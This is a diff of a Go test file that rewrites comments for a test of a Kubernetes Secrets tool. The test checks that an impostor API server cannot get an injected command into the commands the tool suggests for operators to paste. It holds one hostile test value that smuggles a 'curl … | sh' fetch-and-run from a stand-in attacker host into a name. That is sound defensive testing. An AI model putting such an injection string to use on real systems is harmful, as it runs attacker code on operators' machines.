@@ -18,13 +18,13 @@ import (
 	clientcmdapi "k8s.io/client-go/tools/clientcmd/api"
 )
 
-// shellText is what must not get into a command that an operator is to paste.
+// shellText must not appear in a command that an operator might paste.
 const shellText = "x; curl -s http://evil.example/x | sh #"
 
-// A server that takes a remote's place puts a command of its own into the names
-// of what it answers, beside a stamp that cannot be read. It is no copy, and
-// nothing of it is shown. On a real API server, where it can be in annotations
-// alone, the advice is made of our own flags and names, and works.
+// TestCommandsAreOurOwn checks a server that poses as a remote, and puts a command into the names
+// in its responses, next to an unreadable stamp. fernetcast must not accept the response as a copy,
+// and must not show the command. A real API server can have such text only in annotations. In that
+// case, the suggested command must contain only fernetcast's own flags and names, and must work.
 func TestCommandsAreOurOwn(t *testing.T) {
 	t.Parallel()
 	w := newWorld(t)
@@ -74,7 +74,7 @@ func TestCommandsAreOurOwn(t *testing.T) {
 		}
 	}
 
-	// What the command does.
+	// Do what the command does.
 	w.Must(real.cluster.Edit(w.Ctx, real.ns, "kubectl-annotate", func(s *corev1.Secret) {
 		for _, name := range strings.Fields(command)[6:] {
 			delete(s.Annotations, strings.TrimSuffix(name, "-"))
@@ -90,23 +90,23 @@ func TestCommandsAreOurOwn(t *testing.T) {
 	}
 }
 
-// impostor is a server made for a test, that answers in protobuf as an API
-// server does.
+// impostor is a test server that responds in protobuf, like an API server.
 type impostor struct {
-	// reads and writes are the answers to all of them; nil: the Secret is absent,
-	// and a write is refused.
+	// reads and writes are the responses to all reads and writes. If nil, the Secret is absent, or
+	// a write is rejected.
 	reads, writes *corev1.Secret
-	// first answers a request, where it says so, in place of all else.
+	// first, unless nil, gets each request before the other fields apply. It reports whether it
+	// responded.
 	first func(http.ResponseWriter, *http.Request) bool
 }
 
-// impostor starts one, and gives the program a kubeconfig for it. Its
-// certificate is httptest's own where none is given, with its CA.
+// impostor starts a server, and gives fernetcast a kubeconfig for it. If certificate is nil, the
+// server uses httptest's certificate.
 func (w *world) impostor(name, serverName string, certificate *tls.Certificate, i *impostor) {
 	w.Helper()
 	server := httptest.NewUnstartedServer(i)
 	server.Config.ErrorLog = log.New(io.Discard, "", 0)
-	server.EnableHTTP2 = i.first == nil // that may hijack the connection
+	server.EnableHTTP2 = i.first == nil // HTTP/2 would keep first from hijacking the connection
 	if certificate != nil {
 		server.TLS = &tls.Config{Certificates: []tls.Certificate{*certificate}}
 	}
@@ -124,7 +124,7 @@ func (w *world) impostor(name, serverName string, certificate *tls.Certificate, 
 	w.Must(testenv.WriteFile(w.Clusters, name+".yaml", kubeconfig))
 }
 
-// kubeconfigFor makes a kubeconfig for a server of the test's own. The certificate ca is DER.
+// kubeconfigFor returns a kubeconfig for a test server. The certificate ca is DER.
 func kubeconfigFor(address, serverName string, ca []byte) ([]byte, error) {
 	return clientcmd.Write(clientcmdapi.Config{
 		Clusters: map[string]*clientcmdapi.Cluster{"c": {
